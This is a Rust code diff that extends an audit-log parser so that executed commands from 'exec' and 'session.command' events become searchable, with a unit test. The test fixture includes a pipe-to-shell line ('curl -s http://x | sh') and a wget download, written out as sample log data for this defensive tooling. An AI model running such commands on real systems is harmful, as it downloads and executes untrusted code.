@@ -50,6 +50,9 @@ pub struct ParsedEvent<'a> {
     pub method: Option<Cow<'a, str>>,
     pub error: Option<Cow<'a, str>>,
     pub message: Option<Cow<'a, str>>,
+    /// What was run: `command` of `exec`, or `program` and `argv` of an enhanced
+    /// `session.command`, joined by spaces (so that free text finds it).
+    pub command: Option<Cow<'a, str>>,
     pub size: Option<Cow<'a, str>>,
     pub proto: Option<Cow<'a, str>>,
     pub success: Option<bool>,
@@ -136,6 +139,12 @@ struct Wire<'a> {
     #[serde(borrow)]
     message: Option<&'a RawValue>,
     #[serde(borrow)]
+    command: Option<&'a RawValue>,
+    #[serde(borrow)]
+    program: Option<&'a RawValue>,
+    #[serde(borrow)]
+    argv: Option<&'a RawValue>,
+    #[serde(borrow)]
     size: Option<&'a RawValue>,
     #[serde(borrow)]
     proto: Option<&'a RawValue>,
@@ -187,6 +196,7 @@ pub fn parse_line(line: &[u8]) -> Result<ParsedEvent<'_>, LineError> {
         method: wire.method.and_then(string),
         error: wire.error.and_then(string),
         message: wire.message.and_then(string),
+        command: wire.command.and_then(string).or_else(|| command_line(wire.program, wire.argv)),
         size: wire.size.and_then(string),
         proto: wire.proto.and_then(string),
         success: wire.success.and_then(boolean).or_else(|| wire.status.and_then(|st| nested_bool(st, "success"))),
@@ -296,6 +306,21 @@ fn boolean(raw: &RawValue) -> Option<bool> {
     }
 }
 
+/// `program argv…` of an enhanced-recording command (`argv` starts after the program).
+fn command_line<'a>(program: Option<&'a RawValue>, argv: Option<&'a RawValue>) -> Option<Cow<'a, str>> {
+    let program = program.and_then(string)?;
+    let args = argv.map(strings).unwrap_or_default();
+    if args.is_empty() {
+        return Some(program);
+    }
+    let mut line = program.into_owned();
+    for a in args {
+        line.push(' ');
+        line.push_str(&a);
+    }
+    Some(Cow::Owned(line))
+}
+
 fn strings(raw: &RawValue) -> Vec<Cow<'_, str>> {
     serde_json::from_str::<Vec<Cow<'_, str>>>(raw.get()).unwrap_or_default()
 }
@@ -303,6 +328,18 @@ fn strings(raw: &RawValue) -> Vec<Cow<'_, str>> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn commands_are_read_for_free_text() {
+        let exec = br#"{"event":"exec","command":"curl -s http://x | sh","user":"a"}"#;
+        assert_eq!(parse_line(exec).unwrap().command.as_deref(), Some("curl -s http://x | sh"));
+        let enhanced =
+            br#"{"event":"session.command","program":"wget","argv":["-q","http://x"],"path":"/usr/bin/wget"}"#;
+        assert_eq!(parse_line(enhanced).unwrap().command.as_deref(), Some("wget -q http://x"));
+        let bare = br#"{"event":"session.command","program":"id","argv":null}"#;
+        assert_eq!(parse_line(bare).unwrap().command.as_deref(), Some("id"));
+        assert_eq!(parse_line(br#"{"event":"user.login"}"#).unwrap().command, None);
+    }
 
     #[test]
     fn reads_sorted_key_v1_line() {
